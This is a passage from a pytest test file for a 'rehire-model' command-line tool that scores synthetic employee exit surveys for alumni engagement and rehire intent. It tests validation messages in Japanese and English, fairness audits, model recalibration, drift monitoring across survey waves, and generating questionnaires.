    assert list(scores.columns[:4]) == ["leaver_id", "p_alumni_engagement", "p_rehire_intent",
                                        "segment"]
    assert set(scores["segment"]) <= {"boomerang_candidate", "ambassador", "latent_returner",
                                      "detached"}
    rejects = pd.read_csv(tmp_path / "scores.csv.rejects.csv")
    assert list(rejects.columns) == ["line", "leaver_id", "column", "value", "problem"]


def test_validate_names_the_companys_headers_in_japanese(hr_export, tmp_path):
    _, export = hr_export
    result = run("validate", export.path, "--columns", export.columns_path, "--lang", "ja",
                 "--report", tmp_path / "問題.csv", check_code=1)
    lines = result.stderr.strip().splitlines()
    assert lines[-1] == ("シート「退職者一覧」の3行目を見出しとして読み込み。300行を確認："
                         "問題なし 296行、問題あり 4行（問題 4件）")
    for line, field in export.bad_rows:
        shown = next(text for text in lines if text.startswith(f"{line}行目："))
        assert export.headers[field] in shown
    assert not _latin_words(lines)
    report = pd.read_csv(tmp_path / "問題.csv", encoding="utf-8-sig")
    assert list(report.columns) == ["行", "回答者ID", "列", "値", "問題"]


def test_a_typo_in_a_header_is_named_with_its_near_match(tmp_path):
    records = rm.make_leaver_survey(30, random_state=3)
    export = write_hr_export(records, tmp_path / "typo.xlsx", typo=True)
    result = run("score", export.path, "--columns", export.columns_path, "--lang", "ja",
                 "-o", tmp_path / "out.xlsx", check_code=2)
    message = result.stderr
    assert "上司が退職理由を理解してた" in message and "上司が退職理由を理解した" in message
    assert not _latin_words(message.replace("rehire-model", "").replace("--columns", ""))
    assert not (tmp_path / "out.xlsx").exists()


def test_a_column_blank_in_every_row_is_said_aloud(hr_export, tmp_path):
    records, export = hr_export
    data = records.head(40).copy()
    data["industry"] = None
    data.to_csv(tmp_path / "in.csv", index=False)
    result = run("validate", tmp_path / "in.csv", "--lang", "ja", check_code=0)
    warning = [line for line in result.stderr.splitlines() if "空欄" in line]
    assert warning == ["rehire-model: 注意：業種は40行すべてで空欄です。スコアには業種の情報が"
                       "使われていません"]
    scored = run("score", tmp_path / "in.csv", "-o", tmp_path / "out.csv", check_code=0)
    assert ("rehire-model: warning: Industry is blank in all 40 rows: the scores use no "
            "Industry information") in scored.stderr
    assert "Warning" not in scored.stderr and ".py" not in scored.stderr


def test_an_id_column_by_name_or_else_the_line(leavers, tmp_path):
    data = pd.read_csv(leavers, dtype={"leaver_id": str}).head(10)
    data.rename(columns={"leaver_id": "社員番号"}).to_csv(tmp_path / "in.csv", index=False)
    run("score", tmp_path / "in.csv", "--id", "社員番号", "-o", tmp_path / "ids.csv",
        check_code=0)
    assert pd.read_csv(tmp_path / "ids.csv", dtype=str)["leaver_id"].tolist() == \
        data["leaver_id"].tolist()
    data.drop(columns="leaver_id").to_csv(tmp_path / "none.csv", index=False)
    result = run("score", tmp_path / "none.csv", "-o", tmp_path / "lines.csv", check_code=0)
    assert "the file has no id column" in result.stderr
    assert pd.read_csv(tmp_path / "lines.csv")["line"].tolist() == list(range(2, 12))
    missing = run("score", tmp_path / "in.csv", "--id", "社員No", "-o", tmp_path / "x.csv",
                  "--lang", "ja", check_code=2)
    assert "社員No" in missing.stderr and "社員番号" in missing.stderr


def test_audit_by_the_companys_headers_bands_ages(hr_export, tmp_path):
    _, export = hr_export
    result = run("audit", export.path, "--columns", export.columns_path, "--by", "性別,年齢",
                 "--no-intersections", "-o", tmp_path / "audit.csv", "--lang", "ja",
                 "--codes", check_code=0)
    assert "年齢は値が" in result.stderr and "20代" in result.stderr
    table = pd.read_csv(tmp_path / "audit.csv")
    assert set(table["attribute"]) == {"gender", "age"}
    assert set(table.loc[table["attribute"] == "age", "group"]) <= {
        "20s", "30s", "40s", "50s", "under 20", "60+"}
    banded = run("audit", export.path, "--columns", export.columns_path, "--by", "年齢",
                 "--bands", "年齢=30,45", "-o", tmp_path / "bands.csv", check_code=0)
    assert "--bands" not in banded.stderr
    groups = pd.read_csv(tmp_path / "bands.csv")["group"]
    assert set(groups) == {"<30", "30–44", "≥45"}


def test_logged_texts_print_as_one_line_in_the_commands_language():
    import logging

    from rehire_model import cli
    from rehire_model.texts import message

    record = logging.LogRecord("rehire_model.report", logging.WARNING, __file__, 1,
                               message("report.no_cjk_font", fonts="Meiryo"), None, None)
    line = cli._LogLines("ja").format(record)
    assert line.startswith("rehire-model: 注意：日本語のフォントがこの環境にありません（探した"
                           "フォント：Meiryo）")
    assert "\n" not in line and "WARNING" not in line
    plain = logging.LogRecord("rehire_model.model_io", logging.INFO, __file__, 1,
                              "loaded model from %s", ("m",), None)
    assert cli._LogLines("ja").format(plain) == "INFO rehire_model.model_io: loaded model from m"


# --------------------------------------------------------------------------------------
# Outcomes: update a model, monitor waves
# --------------------------------------------------------------------------------------


def invoke(capsys, *args):
    """Run ``rehire-model`` in this process: its exit status and what it printed on stderr."""
    from rehire_model.cli import main

    code = main([str(a) for a in args])
    return code, capsys.readouterr().err


@pytest.fixture(scope="module")
def labelled(tmp_path_factory):
    """300 labelled leavers of a company unlike the survey the default model learned."""
    path = tmp_path_factory.mktemp("update") / "labelled.csv"
    rm.make_leaver_survey(300, random_state=3, world="shifted").to_csv(path, index=False)
    return path


def test_update_from_labelled_leavers_writes_a_model_with_its_lineage(labelled, tmp_path,
                                                                      capsys):
    out = tmp_path / "models" / "x"
    code, err = invoke(capsys, "update", "--data", labelled, "-o", out, "--method",
                       "intercept")
    assert code == 0, err
    model = rm.load_model(out)
    targets = model.lineage["targets"]
    assert {t: e["method"] for t, e in targets.items()} == {
        "alumni_engagement": "intercept", "rehire_intent": "intercept"}
    lines = err.strip().splitlines()
    assert lines[0].startswith("alumni engagement: calibration-in-the-large (300 labelled, ")
    assert lines[1].startswith("rehire intent: calibration-in-the-large (300 labelled, ")
    assert "Brier" in lines[1] and lines[-1] == f"wrote {out}"
    # Calibration-in-the-large: the mean prediction over the labelled leavers is their rate.
    data = pd.read_csv(labelled, dtype={"leaver_id": str})
    predicted = model.predict(data)
    for target, spec in {t.name: t for t in model.config.targets}.items():
        observed = np.nanmean(spec.labels(data[spec.column]))
        assert predicted[f"p_{target}"].mean() == pytest.approx(observed, abs=0.005)
    again = invoke(capsys, "update", "--data", labelled, "-o", out, "--method", "intercept")
    assert again[0] == 2 and "already exists" in again[1]


def test_update_in_japanese_prints_japanese(labelled, tmp_path, capsys):
    out = tmp_path / "ours"
    code, err = invoke(capsys, "update", "--data", labelled, "-o", out, "--method",
                       "intercept", "--lang", "ja")
    assert code == 0, err
    assert err.startswith("アルムナイ意識：全体の水準の補正（ラベル付き300人、該当")
    assert "再入社意向：全体の水準の補正（ラベル付き300人、" in err
    assert err.strip().endswith(f"{out} を書き出しました")
    # AUC is the one abbreviation the Japanese texts keep.
    assert _latin_words([err.replace(str(out), "")]) <= {"AUC"}


@pytest.mark.parametrize("rate", ["0.33", "33%"])
def test_update_to_a_known_base_rate_without_data(tmp_path, capsys, rate):
    out = tmp_path / "rate"
    code, err = invoke(capsys, "update", "--base-rate", f"rehire_intent={rate}", "-o", out)
    assert code == 0, err
    targets = rm.load_model(out).lineage["targets"]
    assert targets["rehire_intent"]["method"] == "base_rate"
    assert targets["rehire_intent"]["base_rate"] == pytest.approx(0.33)
    assert targets["alumni_engagement"]["method"] == "none"
    assert "rehire intent: shifted to a known base rate" in err
    assert "to the known rate 33.0%" in err


@pytest.mark.parametrize(("args", "says"), [
    (["--base-rate", "rehire_intent=abc"],
     "--base-rate 'rehire_intent=abc': expected TARGET=RATE, for example rehire_intent=0.33"),
    (["--base-rate", "rehire_intent"], "--base-rate 'rehire_intent': expected TARGET=RATE"),
    (["--base-rate", "rehire_intent=1.5"],
     "--base-rate 'rehire_intent=1.5': the rate must be a share strictly between 0 and 1"),
    (["--base-rate", "rehire_intent=0%"], "the rate must be a share strictly between"),
    (["--base-rate", "returns=0.3"], "the model predicts no 'returns'; its outcomes are "
                                     "alumni_engagement, rehire_intent"),
    ([], "nothing to update from: give --data with labelled leavers, --base-rate, or both"),
])
def test_update_arguments_that_cannot_work_exit_2(tmp_path, capsys, args, says):
    code, err = invoke(capsys, "update", "-o", tmp_path / "m", *args)
    assert code == 2
    assert says in err and "Traceback" not in err
    assert not (tmp_path / "m").exists()


def test_update_auto_chooses_a_method_per_outcome(labelled, tmp_path, capsys):
    code, err = invoke(capsys, "update", "--data", labelled, "-o", tmp_path / "auto")
    assert code == 0, err
    targets = rm.load_model(tmp_path / "auto").lineage["targets"]
    assert {e["method"] for e in targets.values()} <= {"none", "intercept", "logistic",
                                                     "revise", "refit"}
    assert all(e["requested"] == "auto" and e["candidates"] for e in targets.values())
    assert err.count("cross-validated log loss") >= 2


def _waves(folder, names=("2025Q1", "2025Q2")):
    """Two waves of 200 leavers of the survey's world, 10 % of answers blank; every leaver
    of the second has alumni perks (the company introduced them)."""
    paths = []
    for i, name in enumerate(names):
        wave = rm.make_leaver_survey(200, random_state=70 + i, missing_rate=0.1)
        wave["leaver_id"] = [f"{name}-{j}" for j in range(len(wave))]
        if i == 1:
            wave["policy_alumni_perks"] = True
        paths.append(folder / f"{name}.csv")
        wave.to_csv(paths[-1], index=False)
    return paths


def test_monitor_names_the_field_that_changed_in_its_wave(tmp_path, capsys):
    waves = _waves(tmp_path)
    out = tmp_path / "monitor.xlsx"
    code, err = invoke(capsys, "monitor", *waves, "-o", out)
    assert code == 0, err
    sheets = pd.read_excel(out, sheet_name=None)
    assert list(sheets) == ["verdict", "calibration", "drift", "rejects", "waves"]
    drift = sheets["drift"]
    alarms = drift.loc[drift["alarm"], ["wave", "field"]].values.tolist()
    assert alarms == [["2025Q2", "policy_alumni_perks"]]
    verdict = sheets["verdict"]
    assert verdict[["wave", "target"]].values.tolist() == [
        ["2025Q1", "alumni_engagement"], ["2025Q1", "rehire_intent"],
        ["2025Q2", "alumni_engagement"], ["2025Q2", "rehire_intent"]]
    assert set(verdict["verdict"]) <= {"fine", "recalibrate", "retrain"}
    assert sheets["waves"]["n_scored"].tolist() == [200, 200]
    assert "2025Q2: 200 rows read, 200 scored, 0 rejected" in err
    assert "Alumni perks (leaver discounts or service benefits) changed beyond chance" in err
    assert err.strip().endswith(f"wrote {out}")
    refused = invoke(capsys, "monitor", *waves, "-o", out)
    assert refused[0] == 2 and "already exists" in refused[1]


def test_monitor_splits_one_file_by_exit_date_and_joins_later_outcomes(tmp_path, capsys):
    data = rm.make_leaver_survey(300, random_state=75, missing_rate=0.1)
    data["exit_date"] = pd.date_range("2025-01-01", periods=300, freq="D").strftime(
        "%Y/%m/%d")
    data.loc[4, "industry"] = "banking"  # line 6 of the file
    outcomes = data[["leaver_id", "rehire_intent"]].iloc[::2]
    data.drop(columns=["alumni_engagement", "rehire_intent"]).to_csv(
        tmp_path / "leavers.csv", index=False)
    outcomes.to_csv(tmp_path / "outcomes.csv", index=False)
    out = tmp_path / "monitor.csv"
    code, err = invoke(capsys, "monitor", tmp_path / "leavers.csv", "--period-column",
                       "exit_date", "--outcomes", tmp_path / "outcomes.csv", "-o", out)
    assert code == 0, err
    assert sorted(p.name for p in tmp_path.glob("monitor*")) == [
        "monitor.csv", "monitor.drift.csv", "monitor.rejects.csv"]
    main = pd.read_csv(out)
    assert main["wave"].unique().tolist() == ["2025Q1", "2025Q2", "2025Q3", "2025Q4"]
    known = main[main["target"] == "rehire_intent"]
    assert known["n"].sum() == len(outcomes) - 1  # the leaver of line 6 was rejected
    assert main.loc[main["target"] == "alumni_engagement", "n"].isna().all()
    assert main.loc[main["target"] == "alumni_engagement", "reasons"].str.startswith(
        "no outcomes yet").all()
    rejects = pd.read_csv(tmp_path / "monitor.rejects.csv")
    assert rejects[["wave", "line", "column", "value"]].values.tolist() == [
        ["2025Q1", 6, "industry", "banking"]]
    assert "1 rows of the outcomes match no leaver of the waves" in err  # the rejected one
    quarterly = main.groupby("wave")["n_read"].first().tolist()
    assert quarterly == [90, 91, 92, 27]


@pytest.mark.parametrize(("args", "says"), [
    (["--period", "month"], "--period needs --period-column"),
    (["SECOND", "--period-column", "exit_date"], "--period-column splits one file into "
                                                 "waves, and 2 files were given"),
    (["SECOND"], "more than one file is named 2025Q1"),
])
def test_monitor_arguments_that_cannot_work_exit_2(tmp_path, capsys, args, says):
    (first,) = _waves(tmp_path, names=("2025Q1",))
    (tmp_path / "other").mkdir()
    second = tmp_path / "other" / "2025Q1.csv"
    second.write_bytes(first.read_bytes())
    args = [second if a == "SECOND" else a for a in args]
    code, err = invoke(capsys, "monitor", first, *args, "-o", tmp_path / "m.csv")
    assert code == 2 and says in err, err
    code, err = invoke(capsys, "monitor", first, "-o", tmp_path / "m.txt")
    assert code == 2 and "the monitoring result is written as .xlsx or .csv" in err
    assert not list(tmp_path.glob("m.*"))


def test_monitor_in_japanese_writes_japanese_tables(tmp_path, capsys):
    waves = _waves(tmp_path)
    out = tmp_path / "監視.xlsx"
    code, err = invoke(capsys, "monitor", *waves, "-o", out, "--lang", "ja")
    assert code == 0, err
    sheets = pd.read_excel(out, sheet_name=None)
    assert list(sheets) == ["判定", "予測と実績", "入力の変化", "除外した行", "回ごとの件数"]
    headers = [h for sheet in sheets.values() for h in sheet.columns]
    assert not _latin_words(headers), headers
    verdict, drift = sheets["判定"], sheets["入力の変化"]
    assert list(verdict.columns) == ["回", "結果", "判定", "理由"]
    assert set(verdict["判定"]) <= {rm_text(f"monitor.verdict.{v}", "ja")
                                   for v in ("fine", "recalibrate", "retrain")}
    assert set(verdict["結果"]) == {"アルムナイ意識", "再入社意向"}
    assert not _latin_words(verdict["理由"])
    alarmed = drift[drift["警告"] == "はい"]
    assert alarmed[["回", "項目"]].values.tolist() == [
        ["2025Q2", rm_text("field.policy_alumni_perks", "ja")]]
    assert "2025Q2の回：200行を読み込み、200行のスコアを算出、0行に不備" in err
    assert not _latin_words([err.replace(str(out), "")])
    code, _ = invoke(capsys, "monitor", *waves, "-o", tmp_path / "codes.csv", "--lang", "ja",
                     "--codes")
    assert code == 0
    main = pd.read_csv(tmp_path / "codes.csv", encoding="utf-8-sig")
    assert {"wave", "target", "verdict", "reasons", "n_read", "citl", "auc"} <= set(main)
    assert set(main["verdict"]) <= {"fine", "recalibrate", "retrain"}
    assert main["reasons"].str.contains("予測").any()


def test_monitor_console_script(tmp_path):
    waves = _waves(tmp_path)
    result = run("monitor", *waves, "-o", tmp_path / "monitor.csv", check_code=0)
    assert "2025Q1: 200 rows read, 200 scored, 0 rejected" in result.stderr
    drift = pd.read_csv(tmp_path / "monitor.drift.csv")
    assert drift.loc[drift["alarm"], "field"].tolist() == ["policy_alumni_perks"]
    from rehire_model.cli import build_parser

    assert "rehire-model monitor" in build_parser().format_help()


def test_report_with_waves_adds_the_monitoring_section(tmp_path, capsys):
    data = rm.make_leaver_survey(300, random_state=76)
    data["exit_date"] = pd.date_range("2025-01-01", periods=300, freq="D").strftime(
        "%Y-%m-%d")
    data.to_csv(tmp_path / "leavers.csv", index=False)
    code, err = invoke(capsys, "report", "--data", tmp_path / "leavers.csv",
                       "--period-column", "exit_date", "-o", tmp_path / "r.html")
    assert code == 0, err
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert f"<h2>{rm_text('report.monitoring', 'en')}</h2>" in page
    assert "2025Q4" in page
    code, err = invoke(capsys, "report", "--data", tmp_path / "leavers.csv", "--outcomes",
                       tmp_path / "leavers.csv", "-o", tmp_path / "r2.html")
    assert code == 2 and "--outcomes needs --period-column" in err
    assert not (tmp_path / "r2.html").exists()


def test_questionnaire_writes_the_form_the_page_and_their_column_maps(tmp_path):
    result = run("questionnaire", "-o", tmp_path / "exit_survey.xlsx", check_code=0)
    assert "exit_survey.xlsx（質問30問）" in result.stderr
    assert "--columns" in result.stderr and "KoboToolbox" in result.stderr
    form = pd.read_excel(tmp_path / "exit_survey.xlsx", sheet_name=None)
    assert list(form) == ["survey", "choices", "settings"]
    assert "sup_welcomed_return" in form["survey"]["name"].tolist()
    columns = read_column_map(tmp_path / "exit_survey.columns.toml")
    assert columns["上司は、戻ってきても歓迎するという意思を示してくれましたか。"] == (
        "sup_welcomed_return")
    page = run("questionnaire", "-o", tmp_path / "page.html", "--lang", "en",
               "--no-protected", check_code=0)
    assert "page.html (26 questions, A4, for paper interviews)" in page.stderr
    assert "How old are you?" not in (tmp_path / "page.html").read_text(encoding="utf-8")
    again = run("questionnaire", "-o", tmp_path / "page.html", "--lang", "en", check_code=2)
    assert "page.html' already exists" in again.stderr
    bad = run("questionnaire", "-o", tmp_path / "f.xlsx", "--lang", "ja,fr", check_code=2)
    assert "expected distinct languages of en, ja separated by commas, got 'ja,fr'" in (
        bad.stderr)
